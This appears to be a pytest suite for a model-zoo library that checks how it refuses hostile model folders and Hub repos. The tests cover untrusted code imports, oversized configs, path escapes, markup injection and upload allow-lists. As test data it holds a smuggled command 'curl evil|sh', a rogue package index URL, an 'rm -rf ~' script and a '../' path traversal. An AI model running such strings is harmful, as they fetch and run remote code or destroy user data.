"""Hostile model folders and Hub repos (served by tests/hubserver.py): each is refused in one line, imports
nothing, writes nothing outside --out and allocates next to nothing."""

from __future__ import annotations

import json
import sys
import textwrap
from pathlib import Path

import pytest
import torch
from hub_fixtures import cli, files_of, push_record

from zoo_core.errors import PluginMissingError, ZooError
from zoo_core.hub import from_pretrained, pull, push_to_hub, save_pretrained

STACKGAN = {"res": 16, "g_channels": 4, "d_channels": 4, "c_dim": 4, "z_dim": 4, "compress_dim": 4,
            "text_dim": 5, "vocab": ["red", "blue", "green", "big", "small"], "bank_bytes": 3}
ENCODER = '''
import os
from pathlib import Path
import torch
from torch import nn

Path(os.environ["ZOO_TRUST_MARKER"]).write_text("imported")


class Enc(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.dim = config.text_dim

    def fit(self, captions):
        pass

    def check(self, texts):
        pass

    def encode(self, texts):
        return torch.ones(len(texts), self.dim)
'''


@pytest.fixture(autouse=True)
def _quiet_progress():
    """No download bars on stderr, so a test can count the lines of an error."""
    from huggingface_hub.utils import disable_progress_bars, enable_progress_bars

    disable_progress_bars()
    yield
    enable_progress_bars()


def _one_line_error(code: int, err: str, *needles: str) -> None:
    assert code == 2 and err.count("\n") == 1 and "Traceback" not in err, err
    for needle in needles:
        assert needle in err, err


@pytest.fixture
def encoder_pkg(tmp_path, monkeypatch):
    """A third-party text encoder package that leaves a marker file when it is imported."""
    pkg = tmp_path / "code" / "zoo_trust_pkg"
    pkg.mkdir(parents=True)
    (pkg / "__init__.py").write_text("")
    (pkg / "enc.py").write_text(textwrap.dedent(ENCODER))
    marker = tmp_path / "imported.txt"
    monkeypatch.setenv("ZOO_TRUST_MARKER", str(marker))
    monkeypatch.syspath_prepend(str(tmp_path / "code"))
    yield marker
    for name in [m for m in sys.modules if m.startswith("zoo_trust_pkg")]:
        del sys.modules[name]


def _stackgan_saved(folder: Path, build_with: dict | None = None, **changes) -> Path:
    from zoo_stackgan.config import StackGANConfig
    from zoo_stackgan.model import StackGAN

    from zoo_core.config import build

    torch.manual_seed(0)
    save_pretrained(StackGAN(build(StackGANConfig, {**STACKGAN, **(build_with or {})})), folder)
    record = json.loads((folder / "config.json").read_text())
    record["config"].update(changes)
    (folder / "config.json").write_text(json.dumps(record))
    return folder


# ------------------------------------------------------------------ 1. nothing a folder names is run
def test_code_named_by_a_saved_config_is_never_imported(tmp_path, encoder_pkg, capsys):
    folder = _stackgan_saved(tmp_path / "m", text_encoder="zoo_trust_pkg.enc:Enc")
    with pytest.raises(ZooError, match=r"asks to import and run code \(--text-encoder 'zoo_trust_pkg.enc:Enc'\)"
                                       r".*trust_code=True \(--trust-code\)"):
        from_pretrained(folder, device="cpu")
    code, out, err = cli(["sample", str(folder), "--n", "1", "--out", str(tmp_path / "g.png"), "--device", "cpu"],
                         capsys)
    _one_line_error(code, err, "--trust-code")
    assert not encoder_pkg.exists() and "zoo_trust_pkg.enc" not in sys.modules
    assert not (tmp_path / "g.png").exists()
    # os.path:sys.exit used to end the process; now it is a refusal like any other path
    _stackgan_saved(tmp_path / "exit", text_encoder="os.path:sys.exit")
    with pytest.raises(ZooError, match="asks to import and run code"):
        from_pretrained(tmp_path / "exit", device="cpu")


def test_trust_code_opt_in_imports_the_named_encoder(tmp_path, encoder_pkg, capsys):
    folder = _stackgan_saved(tmp_path / "m", {"text_encoder": "zoo_trust_pkg.enc:Enc"})
    encoder_pkg.unlink()
    del sys.modules["zoo_trust_pkg.enc"]
    with pytest.raises(ZooError, match="asks to import"):
        from_pretrained(folder, device="cpu")
    assert not encoder_pkg.exists()
    model = from_pretrained(folder, device="cpu", trust_code=True)
    assert type(model.text).__name__ == "Enc" and encoder_pkg.read_text() == "imported"
    code, out, err = cli(["sample", str(folder), "--n", "1", "--out", str(tmp_path / "g.png"), "--device", "cpu",
                          "--trust-code"], capsys)
    assert code == 0, err
    assert (tmp_path / "g.png").is_file()


def test_training_time_import_path_is_the_users_choice(encoder_pkg):
    from zoo_stackgan.config import StackGANConfig
    from zoo_stackgan.model import StackGAN

    from zoo_core.config import build

    model = StackGAN(build(StackGANConfig, {**STACKGAN, "text_encoder": "zoo_trust_pkg.enc:Enc"}))
    assert type(model.text).__name__ == "Enc" and encoder_pkg.exists()


def test_named_encoders_load_without_trust(tmp_path):
    folder = _stackgan_saved(tmp_path / "m")
    assert from_pretrained(folder, device="cpu").generate(1, seed=0, prompt="red").shape == (1, 3, 16, 16)


# ------------------------------------------------------------------ 3. errors are text, not markup
@pytest.mark.parametrize("name", ["[/x]", "[red]loud[/red]", "[link=file:///etc]x[/link]"])
def test_repo_text_is_printed_verbatim(hub, saved, capsys, name):
    push_record(hub, "me/markup", saved, zoo_model=name, distribution=name)
    code, out, err = cli(["sample", "me/markup", "--n", "1", "--device", "cpu"], capsys)
    _one_line_error(code, err, f"model {name!r}")
    assert "pip install" not in err


@pytest.mark.parametrize("dist", ["zoo-x; curl evil|sh", "zoo-", "Zoo-X", "zoo-x --index-url http://evil", "evil"])
def test_install_hint_only_for_plugin_names(hub, saved, dist):
    push_record(hub, "me/hint", saved, zoo_model="nope", distribution=dist)
    with pytest.raises(PluginMissingError) as info:
        from_pretrained("me/hint")
    assert "pip install" not in str(info.value) and dist not in str(info.value)


def test_long_repo_text_is_cut(hub, saved):
    push_record(hub, "me/long", saved, zoo_model="x" * 100_000)
    with pytest.raises(PluginMissingError) as info:
        from_pretrained("me/long")
    assert len(str(info.value)) < 300


# ------------------------------------------------------------------ 2. validate before allocating
DDPM_SMALL = {"res": 16, "channels": 8, "channel_mults": [1, 2], "attn_res": [8], "timesteps": 20}


def _ddpm_saved(folder: Path) -> Path:
    from zoo_ddpm.config import DDPMConfig
    from zoo_ddpm.model import DDPM

    from zoo_core.config import build

    torch.manual_seed(0)
    return save_pretrained(DDPM(build(DDPMConfig, dict(DDPM_SMALL))), folder)


def _edit_config(folder: Path, **changes) -> Path:
    record = json.loads((folder / "config.json").read_text())
    record["config"].update(changes)
    (folder / "config.json").write_text(json.dumps(record))
    return folder


def test_every_number_option_has_bounds():
    import dataclasses
    import typing

    from zoo_core.config import field_type
    from zoo_core.data import DataConfig
    from zoo_core.plugins import registry
    from zoo_core.train_config import TrainConfig

    reg = registry()
    classes = [reg.model(n).load_config_class() for n in reg.names("model")] + [DataConfig, TrainConfig]
    unbounded = []
    for cls in classes:
        for f in dataclasses.fields(cls):
            tp = field_type(cls, f.name)
            args = set(typing.get_args(tp)) | {tp}
            args |= {a for t in list(args) for a in typing.get_args(t)}
            if args & {int, float} and not ("min" in f.metadata and "max" in f.metadata):
                unbounded.append(f"{cls.__name__}.{f.name}")
    assert unbounded == []


@pytest.mark.parametrize("field,value,expected", [
    ("channels", 1048576, "--channels in config.json: must be <= 1024 (allowed range 8..1024), got 1048576"),
    ("timesteps", 10**12, "--timesteps in config.json: must be <= 100000"),
    ("num_res_blocks", 100000, "--num-res-blocks in config.json: must be <= 16"),
    ("num_heads", 10**9, "--num-heads in config.json: must be <= 64"),
    ("channel_mults", [1] * 10_000, "--channel-mults in config.json: at most 64 items, got 10000"),
    ("p2_k", float("inf"), "--p2-k in config.json: must be a finite number"),
    ("beta_schedule", "x" * 10**6, "--beta-schedule in config.json: expected one of linear, cosine, got 'xxx"),
])
def test_absurd_configs_are_one_line_errors(tmp_path, capsys, field, value, expected):
    folder = _edit_config(_ddpm_saved(tmp_path / "m"), **{field: value})
    code, out, err = cli(["sample", str(folder), "--n", "1", "--out", str(tmp_path / "g.png"), "--device", "cpu"],
                         capsys)
    _one_line_error(code, err, expected)
    assert len(err) < 300


def test_mismatched_weights_name_the_tensor(tmp_path):
    folder = _edit_config(_ddpm_saved(tmp_path / "m"), channels=512)
    with pytest.raises(ZooError, match=r"do not match the ddpm config: tensor 'unet\.[\w.]+' is \[\d+(, \d+)*\] "
                                       r"in the file but the ddpm config builds \[\d+(, \d+)*\] \(and \d+ more\)"):
        from_pretrained(folder, device="cpu")


RSS_SCRIPT = """
import resource, sys, time
from zoo_core.errors import ZooError
from zoo_core.hub import from_pretrained
from_pretrained(sys.argv[1], device="cpu").generate(1, seed=0, steps=2)   # warm: every module imported once
base = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
for folder in sys.argv[2:]:
    t = time.perf_counter()
    try:
        from_pretrained(folder, device="cpu")
        print("LOADED", folder)
    except ZooError as exc:
        print("REFUSED", round(time.perf_counter() - t, 3), str(exc)[:60])
print("GROWTH_KB", resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - base)
"""


def test_absurd_or_mismatched_models_cost_little_memory(tmp_path):
    """Peak RSS of a fresh process hardly grows while it refuses models that would need gigabytes."""
    import os
    import subprocess

    good = _ddpm_saved(tmp_path / "good")
    hostile = []
    for i, changes in enumerate([{"channels": 512}, {"channels": 1024, "channel_mults": [1, 2, 4, 8]},
                                 {"timesteps": 10**12}, {"num_res_blocks": 100000}]):
        hostile.append(str(_edit_config(_ddpm_saved(tmp_path / f"bad{i}"), **changes)))
    root = Path(__file__).resolve().parents[1]
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(root), os.environ.get("PYTHONPATH", "")])}
    done = subprocess.run([sys.executable, "-c", RSS_SCRIPT, str(good), *hostile], capture_output=True, text=True,
                          timeout=300, env=env)
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert [ln.split()[0] for ln in lines] == ["REFUSED"] * 4 + ["GROWTH_KB"], done.stdout
    assert all(float(ln.split()[1]) < 1.0 for ln in lines[:4]), done.stdout  # each well under a second
    assert int(lines[-1].split()[1]) < 64 * 1024, done.stdout  # < 64 MB where a build would take gigabytes


# ------------------------------------------------------------------ 4. pull never clobbers, push an allow-list
def test_pull_out_must_be_new_or_empty(hub, saved, tmp_path, capsys):
    push_to_hub(saved, "me/tiny")
    run = tmp_path / "run"
    run.mkdir()
    (run / "config.json").write_text('{"mine": true}')
    code, out, err = cli(["pull", "me/tiny", "--out", str(run)], capsys)
    _one_line_error(code, err, f"--out {run} is not empty", "--force")
    assert (run / "config.json").read_text() == '{"mine": true}' and sorted(p.name for p in run.iterdir()) == [
        "config.json"]
    (tmp_path / "empty").mkdir()
    assert pull("me/tiny", out=tmp_path / "empty") == tmp_path / "empty"
    code, out, err = cli(["pull", "me/tiny", "--out", str(run), "--force"], capsys)
    assert code == 0, err
    assert json.loads((run / "config.json").read_text())["zoo_model"] == "hubtiny"


def test_pull_never_writes_through_a_link(hub, saved, tmp_path):
    push_to_hub(saved, "me/tiny")
    outside = tmp_path / "outside.txt"
    outside.write_text("precious")
    out = tmp_path / "out"
    out.mkdir()
    (out / "model.safetensors").symlink_to(outside)
    (out / "README.md").symlink_to(tmp_path / "dangling")
    pull("me/tiny", out=out, force=True)
    assert outside.read_text() == "precious" and not (tmp_path / "dangling").exists()
    assert not (out / "model.safetensors").is_symlink() and (out / "model.safetensors").read_bytes() == (
        saved / "model.safetensors").read_bytes()
    assert not [p for p in out.iterdir() if p.name.startswith(".zoo-pull-")]


def test_pull_copies_only_what_a_loader_reads(hub, saved, tmp_path):
    hub.put("me/extra", {**files_of(saved), "sub/x.png": b"png", "run.sh": b"rm -rf ~"})
    out = pull("me/extra", out=tmp_path / "out")
    assert sorted(p.name for p in out.rglob("*")) == ["README.md", "config.json", "model.safetensors"]
    hub.put("me/escape", {**files_of(saved), "../escape.png": b"x"})
    with pytest.raises(ZooError, match="escape.png"):
        pull("me/escape", out=tmp_path / "out2")
    assert not list(tmp_path.rglob("escape.png"))


def test_push_uploads_only_the_allow_list(hub, saved, tmp_path, capsys):
    secret = tmp_path / "secret.txt"
    secret.write_text("api key")
    run = tmp_path / "runs" / "hubtiny-1"
    run.mkdir(parents=True)
    (run / "config.json").write_text(json.dumps({"zoo_model": "hubtiny", "config": {}, "data": "/home/me/faces"}))
    (run / "metrics.jsonl").write_text("{}\n")
    saved.rename(run / "final")
    final = run / "final"
    (final / "notes.txt").write_text("private")
    (final / "private").mkdir()
    (final / "private" / "key.safetensors").write_bytes(b"x")
    (final / "stray.safetensors").write_bytes(b"x")
    (final / "link.png").symlink_to(secret)
    (final / "samples.png").write_bytes(b"\x89PNG")
    record = json.loads((final / "config.json").read_text())
    record["config"]["note"] = "/home/me/private/data"
    (final / "config.json").write_text(json.dumps(record))
    code, out, err = cli(["push", str(run), "--repo", "me/run", "--license", "apache-2.0"], capsys)
    assert code == 0, err
    files = hub.files("me/run")
    assert sorted(files) == [".gitattributes", "README.md", "config.json", "model.safetensors", "samples.png"]
    assert b"/home/" not in files["config.json"] and json.loads(files["config.json"])["config"]["note"] == "data"
    card = files["README.md"].decode()
    assert "license: apache-2.0" in card and 'from_pretrained("me/run")' in card and str(tmp_path) not in card


def test_push_refuses_a_link_out_of_the_folder(hub, saved, tmp_path, capsys):
    outside = tmp_path / "elsewhere.safetensors"
    (saved / "model.safetensors").rename(outside)
    (saved / "model.safetensors").symlink_to(outside)
    code, out, err = cli(["push", str(saved), "--repo", "me/link"], capsys)
    _one_line_error(code, err, "outside the folder")
    assert "me/link" not in hub.repos


def test_card_has_what_hub_users_expect(tmp_path, tiny):
    from huggingface_hub import ModelCard

    from zoo_core.card import bibtex

    folder = _ddpm_saved(tmp_path / "m")
    save_pretrained(from_pretrained(folder, device="cpu"), folder, card={
        "license": "mit", "metrics": {"fid": 12.5}, "training": {"data": "me/faces", "out": str(tmp_path)}})
    card = ModelCard.load(folder / "README.md")
    assert card.data.license == "mit" and "arxiv:2006.11239" in card.data.tags
    assert card.data.datasets == ["me/faces"]
    result = card.data.eval_results[0]
    assert (result.metric_type, result.metric_value, result.dataset_name) == ("fid", 12.5, "me/faces")
    assert "pip install zoo-core zoo-ddpm" in card.text and str(tmp_path) not in card.text
    from zoo_core.card import parameter_count

    params = sum(p.numel() for p in from_pretrained(folder, device="cpu").state_dict().values())
    assert parameter_count(folder / "model.safetensors") == params and f"{params / 1e6:.2f} M parameters" in card.text
    assert bibtex("Ho, Jain, Abbeel. Denoising Diffusion Probabilistic Models. NeurIPS 2020. arXiv:2006.11239") == (
        "@inproceedings{ho2020denoising,\n  title = {Denoising Diffusion Probabilistic Models},\n"
        "  author = {Ho and Jain and Abbeel},\n  year = {2020},\n  booktitle = {NeurIPS},\n"
        "  eprint = {2006.11239},\n  archivePrefix = {arXiv}\n}")


# ------------------------------------------------------------------ 5. network errors are honest
@pytest.mark.parametrize("status,expected", [
    (401, "needs a valid token for 'me/tiny' (401"), (403, "refused access to 'me/tiny' (403 forbidden)"),
    (404, "no model repository 'me/tiny'"),
    (500, "not in the local cache"), (503, "failed with a server error (503); try again later"),
])
def test_each_http_answer_is_reported_for_what_it_is(hub, saved, capsys, status, expected):
    push_to_hub(saved, "me/tiny")
    hub.answer = status
    code, out, err = cli(["pull", "me/tiny"], capsys)
    _one_line_error(code, err, expected)


def test_push_refusals_are_named(hub, saved, capsys):
    hub.answer = 403
    code, out, err = cli(["push", str(saved), "--repo", "me/tiny"], capsys)
    _one_line_error(code, err, "refused write access to 'me/tiny' (403 forbidden)")
    hub.answer = 500
    code, out, err = cli(["push", str(saved), "--repo", "me/tiny"], capsys)
    _one_line_error(code, err, "server error (500)")


def test_cache_fallback_is_said(hub, saved, capsys, monkeypatch):
    from huggingface_hub import constants

    push_to_hub(saved, "me/tiny")
    pull("me/tiny")
    hub.answer = 502
    code, out, err = cli(["pull", "me/tiny"], capsys)
    assert code == 0 and "note: me/tiny was served from the local cache: the Hub at" in err and "(502)" in err
    hub.answer = None
    hub.stop()
    monkeypatch.setattr(constants, "ENDPOINT", "http://127.0.0.1:9")
    code, out, err = cli(["pull", "me/tiny"], capsys)
    assert code == 0 and "note: me/tiny was served from the local cache" in err and "cannot be reached" in err


def test_a_hanging_hub_costs_seconds(hub, saved, capsys, monkeypatch):
    import time

    push_to_hub(saved, "me/tiny")
    monkeypatch.setenv("ZOO_HUB_TIMEOUT", "0.5")
    hub.hang.set()
    started = time.perf_counter()
    code, out, err = cli(["pull", "me/other"], capsys)
    _one_line_error(code, err, "did not answer within 0.5 s (ZOO_HUB_TIMEOUT)")
    code, out, err = cli(["push", str(saved), "--repo", "me/tiny"], capsys)
    _one_line_error(code, err, "did not answer within 0.5 s")
    assert time.perf_counter() - started < 20
    monkeypatch.setenv("ZOO_HUB_TIMEOUT", "soon")
    code, out, err = cli(["pull", "me/tiny"], capsys)
    _one_line_error(code, err, "ZOO_HUB_TIMEOUT must be seconds")


def test_load_object_refuses_unregistered_paths_while_loading(tmp_path, encoder_pkg):
    from zoo_core.registry import load_object
    from zoo_core.trust import loading

    with loading("a hostile folder"), pytest.raises(ZooError, match="which no installed plugin registers"):
        load_object("zoo_trust_pkg.enc:Enc")
    assert not encoder_pkg.exists()
    with loading("a hostile folder"):
        assert load_object("zoo_ddpm.model:DDPM").__name__ == "DDPM"  # a registered spec path
    with loading("a folder I trust", trust_code=True):
        assert load_object("zoo_trust_pkg.enc:Enc").__name__ == "Enc"


def test_a_finished_run_card_records_license_eval_and_no_local_paths(toy_spec, image_dir, tmp_path):
    from huggingface_hub import ModelCard
    from test_engine import engine

    out = engine(toy_spec, tmp_path / "run", image_dir, steps=2, eval_every=2, eval_metrics="fid", eval_n=8,
                 eval_extractor="random", license="cc-by-4.0").run_training()
    fid = [json.loads(x) for x in (out / "metrics.jsonl").read_text().splitlines() if '"eval"' in x][-1]["eval"]["fid"]
    card = ModelCard.load(out / "final" / "README.md")
    assert card.data.license == "cc-by-4.0"
    assert card.data.eval_results[0].metric_type == "fid" and card.data.eval_results[0].metric_value == fid
    assert str(tmp_path) not in card.text and '"data": "images"' in card.text and '"out"' not in card.text


SMALL = {"ddpm": DDPM_SMALL, "iddpm": {**DDPM_SMALL, "attn_res": [8]}, "dcgan": {"res": 16},
         "pggan": {"res": 16}, "stackgan": STACKGAN}


@pytest.mark.parametrize("name", sorted(SMALL))
def test_meta_built_models_load_exactly(tmp_path, name):
    """Every family survives the meta-device build: same tensors, same images as the model that was saved."""
    import copy
    import dataclasses

    from zoo_core.config import build
    from zoo_core.plugins import registry

    spec = registry().model(name)
    cls = spec.load_config_class()
    names = {f.name for f in dataclasses.fields(cls)}
    cfg = build(cls, {k: v for k, v in SMALL[name].items() if k in names})
    torch.manual_seed(0)
    model = spec.load_model_class()(copy.deepcopy(cfg)).eval()
    loaded = from_pretrained(save_pretrained(model, tmp_path / name), device="cpu")
    assert all(not t.is_meta for t in list(loaded.parameters()) + list(loaded.buffers()))
    for (k, a), (k2, b) in zip(model.state_dict().items(), loaded.state_dict().items(), strict=True):
        assert k == k2 and a.dtype == b.dtype and torch.equal(a, b), k
    kw = {"steps": 3} if "ddpm" in name else {}
    assert torch.equal(model.generate(2, seed=0, **kw), loaded.generate(2, seed=0, **kw))


@pytest.mark.parametrize("content,expected", [
    (b"[" * 200_000, "not valid JSON"),
    (b"\xff\xfe{}", "not valid JSON"),
    (b" " * (17 << 20) + b"{}", "is 17 MB; a zoo config.json is at most 16 MB"),
    (b'{"zoo_model": "hubtiny", "zoo_format": "' + b"9" * 100_000 + b'"}', "invalid zoo_format '99999"),
])
def test_damaged_config_json_is_one_line(saved, capsys, content, expected):
    (saved / "config.json").write_bytes(content)
    code, out, err = cli(["sample", str(saved), "--n", "1", "--device", "cpu"], capsys)
    _one_line_error(code, err, expected)
    assert len(err) < 400


DEEP = "[" * 100_000 + "]" * 100_000  # 200 KB of JSON that exhausts the parser's recursion


@pytest.mark.parametrize("where", ["config.json", "attributes.json", "metadata.jsonl", "--config", "toml"])
def test_deeply_nested_json_is_a_one_line_error(tmp_path, capsys, where):
    """Every JSON a folder or file may hold goes through one parser that turns RecursionError into the error."""
    from PIL import Image

    data = tmp_path / "imgs"
    data.mkdir()
    for i in range(2):
        Image.new("RGB", (16, 16), (60 * i, 0, 0)).save(data / f"{i}.png")
    if where == "config.json":
        folder = tmp_path / "m"
        folder.mkdir()
        (folder / "config.json").write_text(DEEP)
        argv = ["sample", str(folder), "--n", "1", "--out", str(tmp_path / "g.png")]
    elif where in ("--config", "toml"):
        cfg = tmp_path / ("c.json" if where == "--config" else "c.toml")
        cfg.write_text(DEEP if where == "--config" else "a = " + DEEP)
        argv = ["train", "dcgan", "--config", str(cfg), "--data", str(data), "--steps", "1"]
    else:
        (data / where).write_text(DEEP + ("\n" if where.endswith("jsonl") else ""))
        argv = ["train", "dcgan", "--data", str(data), "--res", "16", "--steps", "1", "--class-cond",
                "--out", str(tmp_path / "run")]
    code, out, err = cli(argv, capsys)
    assert code != 0 and "Traceback" not in err and len(err.strip().splitlines()) == 1, err[-400:]
    assert "nested too deeply" in err or "metadata.jsonl:1" in err


@pytest.mark.parametrize("value", [float("nan"), float("inf")])
def test_non_finite_weights_are_refused_at_load(tmp_path, capsys, value):
    """NaN or inf weights would draw black squares with a clean exit: loading names the tensor instead."""
    from safetensors.torch import load_file, save_file

    folder = _ddpm_saved(tmp_path / "m")
    state = load_file(str(folder / "model.safetensors"))
    name = sorted(k for k, v in state.items() if v.is_floating_point())[3]
    state[name].view(-1)[0] = value
    save_file(state, str(folder / "model.safetensors"))
    with pytest.raises(ZooError, match=rf"hold NaN or inf values \(tensor '{name}'\)"):
        from_pretrained(folder, device="cpu")
    code, _, err = cli(["sample", str(folder), "--n", "1", "--out", str(tmp_path / "s.png")], capsys)
    _one_line_error(code, err, "NaN or inf", name)
    assert not (tmp_path / "s.png").exists()


def test_a_converted_checkpoint_with_nan_is_refused():
    from zoo_core.importing import load_checked

    with pytest.raises(ZooError, match=r"ckpt\.pt hold NaN or inf values \(tensor 'weight'\)"):
        load_checked(lambda: torch.nn.Linear(2, 2), {"weight": torch.full((2, 2), float("nan")),
                                                     "bias": torch.zeros(2)}, "ckpt.pt")
